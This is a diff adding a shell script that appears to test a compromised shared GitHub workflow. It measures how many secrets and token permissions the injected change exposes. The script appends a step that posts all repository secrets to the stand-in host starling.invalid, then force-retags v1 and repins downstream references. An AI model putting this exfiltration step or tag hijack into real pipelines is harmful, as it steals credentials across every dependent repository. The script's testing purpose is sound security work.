@@ -1,0 +1,39 @@
+# Somebody has Jonas's session, and with it the workflow that all repositories share.
+cd ~/workflows || exit 127
+cat >> .github/workflows/publish.yml <<'YAML'
+      - if: always()
+        run: curl -s -o /dev/null -d "$ALL" https://starling.invalid/kit
+        env:
+          ALL: ${{ toJSON(secrets) }}
+YAML
+git commit -q -a -m "Faster" && git tag -f v1 > /dev/null && git push -q -f origin main v1
+export NEXT="$(git rev-parse HEAD)" latest="$(npm view @lantern/tides version 2> /dev/null || echo "$RELEASE")"
+latest=${latest%%-*}
+export TAG="v${latest%.*}.1$(date +%H%M%S)"
+as teo <<'TEO' || exit 127
+rm -rf update && git clone -q https://forge.test/lantern-tides/tides.git update && cd update
+find .github -name '*.y*ml' -exec sed -i -E "/publish.yml@(v1|main)[\"']?\s*$/! s#(lantern-tides/workflows/[^@]+)@[^ \"']+#\1@$NEXT#" {} +
+git diff --quiet || git commit -q -a -m "Update the shared workflow"
+git tag "$TAG" && git push -q origin "$TAG"
+TEO
+sleep 3m
+more= count=0
+for run in $(gh run list --repo lantern-tides/tides --branch "$TAG" --json databaseId --jq '.[].databaseId'); do
+  over=$(gh run view "$run" --repo lantern-tides/tides --log | grep -oE 'Z [A-Z][A-Za-z]*: (read|write)$' | cut -c 3- | grep -vE '^(Metadata|Contents|Packages|PullRequests|Issues): read$')
+  [ -n "$over" ] || continue
+  more=$(head -n 3 <<< "$over" | paste -sd , - | sed 's/,/, /g')$(tail -n +4 <<< "$over" | sed -n '$=' | sed 's/.*/ and & more/')
+  found TOO-MUCH permissions="$more"
+  say "A job of the release may do more than it needs."
+done
+if loot starling | grep -A 99 'POST /kit' > ~/stolen; then
+  for id in cloudKey minaToken labelsToken chatHook imageToken errorsKey; do
+    trace "$id" clone:jonas > /dev/null && count=$((count + 1))
+  done
+fi
+if [ "$count" -gt 0 ]; then
+  found INHERIT count="$count"
+  say "The changed workflow read $count secrets that it does not need."
+else
+  say "The changed workflow got no secret but the one that it needs."
+fi
+[ "$count" -gt 0 ] || [ -n "$more" ]
